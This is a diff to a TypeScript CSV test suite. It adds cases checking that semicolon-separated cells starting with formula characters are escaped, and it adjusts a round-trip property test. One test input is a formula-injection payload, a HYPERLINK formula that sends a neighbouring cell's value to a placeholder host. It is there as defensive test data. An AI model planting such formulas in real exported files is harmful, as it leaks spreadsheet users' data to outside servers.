@@ -43,6 +43,16 @@ describe("CSV", () => {
     },
   );
 
+  it.each([
+    ['Foo;=HYPERLINK("http://x/?"&A2);bar', `Foo;'=HYPERLINK("http://x/?"&A2);bar`],
+    ["a; @SUM(1)", "a;' @SUM(1)"],
+    ["a;-2+3", "a;'-2+3"],
+    ["Parks; - roads", "Parks; - roads"],
+    ["a; b = c", "a; b = c"],
+  ])("%j holds no formula where cells are parted at semicolons", (cell, safe) => {
+    expect(parseCsv(csv(["a"], [[cell]]).slice(1))[1]).toEqual([safe]);
+  });
+
   it("comes back as it was by the rules of RFC 4180", () => {
     const rows = fc.array(fc.array(fc.string({ unit: "grapheme" }), { minLength: 2, maxLength: 2 }), {
       minLength: 1,
@@ -50,9 +60,8 @@ describe("CSV", () => {
     fc.assert(
       fc.property(rows, (cells) => {
         const back = parseCsv(csv(["a", "b"], cells).slice(1)).slice(1);
-        expect(back.map((row) => row.map((cell) => cell.replace(/^'/, "")))).toEqual(
-          cells.map((row) => row.map((cell) => cell.replace(/^'/, ""))),
-        );
+        const bare = (cell: string): string => cell.replace(/^'/, "").replaceAll(";'", ";");
+        expect(back.map((row) => row.map(bare))).toEqual(cells.map((row) => row.map(bare)));
       }),
     );
   });
